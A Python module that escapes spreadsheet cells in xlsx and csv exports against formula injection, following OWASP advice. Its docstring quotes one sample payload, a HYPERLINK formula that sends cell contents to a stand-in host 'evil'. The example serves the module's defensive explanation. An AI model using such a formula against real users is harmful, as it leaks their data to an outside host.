"""Cells for files that people open in a spreadsheet program (xlsx and csv exports).

A cell whose text starts with = + - @ (or a tab / carriage return before one) is taken as a formula by Excel,
WPS and LibreOffice: a citizen who types `=HYPERLINK("http://evil/?"&A1,"点此")` into a request would get a live
formula into the office's export. Every export writes its cells through `safe_cell` (OWASP's advice: prefix such
text with a single quote so it is shown as text).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> Any:
    """`value` as a cell: text that a spreadsheet would read as a formula is escaped; numbers, dates, None pass."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def unescape_cell(text: str) -> str:
    """The text `safe_cell` wrote back as it was, so an exported file imports unchanged."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
